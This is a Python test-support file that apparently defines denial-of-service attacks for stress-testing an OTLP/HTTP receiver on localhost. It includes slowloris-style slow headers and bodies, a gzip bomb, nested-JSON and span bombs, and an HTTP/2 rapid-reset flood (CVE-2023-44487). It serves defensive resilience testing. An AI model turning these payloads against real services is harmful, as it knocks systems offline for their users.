# SPDX-License-Identifier: Apache-2.0
"""The attacks on OTLP/HTTP, in the form of arsenal.py: what a connection sends first, and what it then repeats."""

import gzip

from h2.config import H2Configuration
from h2.connection import H2Connection

from support import otlp
from support.arsenal import CANCEL, Attack, field_of, flood, spans

# Requests that a connection sends without waiting for their answers.
PIPELINE_COUNT = 200
# Of a body that is announced and does not come.
ANNOUNCED_SIZE_BYTES = 60 << 20


def head(*lines, target="/v1/traces", method="POST"):
    return "\r\n".join([f"{method} {target} HTTP/1.1", "Host: localhost", *lines, "", ""]).encode()


def post(body, *lines, content_type="application/x-protobuf"):
    return head(f"Content-Type: {content_type}", f"Content-Length: {len(body)}", *lines) + body


def pipelined(body, *lines, count=PIPELINE_COUNT, **options):
    """Requests with the same body, one behind the other."""
    return lambda port: post(body, *lines, **options) * count


def gzipped(message, count=PIPELINE_COUNT):
    return pipelined(gzip.compress(message, 9), "Content-Encoding: gzip", count=count)


def half_body(port):
    return head("Content-Type: application/x-protobuf", f"Content-Length: {ANNOUNCED_SIZE_BYTES}") + bytes(1_000)


def chunked(port):
    return head("Content-Type: application/x-protobuf", "Transfer-Encoding: chunked")


def many_fields(port):
    """Heads that are as large as they may be, on requests that nobody serves."""
    return head(*(f"x-{number}: {'v' * 120}" for number in range(90)), target="/nothing", method="GET") * 100


def rapid_reset(port):
    connection = H2Connection(H2Configuration(client_side=True))
    connection.initiate_connection()
    opening = connection.data_to_send()
    for number in range(20_000):
        stream = 2 * number + 1
        connection.send_headers(stream, [(":method", "POST"), (":scheme", "http"), (":path", "/v1/traces"),
                                         (":authority", "localhost"), ("content-type", "application/x-protobuf")])
        connection.reset_stream(stream, CANCEL)
        if number % 50 == 49:
            opening += connection.data_to_send()
    return opening + connection.data_to_send()


HTTP_ATTACKS = {
    "http: slow heads": Attack("heads that are begun", lambda port: b"POST /v1/traces HTTP/1.1\r\nHo", connections=400,
                               returns=False, seconds=15),
    "http: slow bodies": Attack("bodies of 60 MiB begun", half_body, connections=100, returns=False, seconds=15),
    "http: dribbled chunks": Attack("chunks of one byte", chunked, flood(lambda: b"1\r\nx\r\n")),
    "http: answers not read": Attack("requests whose answers are not read",
                                     pipelined(otlp.request("traces").SerializeToString(), count=5_000),
                                     connections=20, reads=False),
    "http: large heads": Attack("heads of 11 KB for a path that is not there", many_fields),
    "http: gzip bomb": Attack("64 MiB of zeros in 65 KB", gzipped(bytes(64 << 20))),
    "http: empty spans": Attack("a million empty spans in 4 KB", gzipped(spans(field_of(2, b"") * 1_000_000))),
    "http: nested JSON": Attack("a million lists in one another",
                                pipelined(b"[" * 1_000_000, count=20, content_type="application/json")),
    "http: unknown members": Attack("JSON of 200,000 members that do not exist",
                                    pipelined(b"{" + b",".join(b'"%d":{}' % number for number in range(200_000)) + b"}",
                                              count=20, content_type="application/json")),
    "http: garbage": Attack("bytes that are no message", pipelined(b"\xff" * 1_000, count=5_000)),
    "http: rapid reset": Attack("streams of HTTP/2 opened and cancelled (CVE-2023-44487)", rapid_reset),
    "http: behind an upgrade": Attack(
        "bytes behind a request that proposes another protocol",
        lambda port: post(b"", "Connection: Upgrade", "Upgrade: h2c"), flood(lambda: bytes(64))),
    "http: refusals not read": Attack(
        "requests that are refused at once, and not read", lambda port: b"",
        flood(lambda: head(target="/nothing", method="GET")), connections=20, reads=False),
}
for attack in HTTP_ATTACKS.values():
    attack.listener = "http"
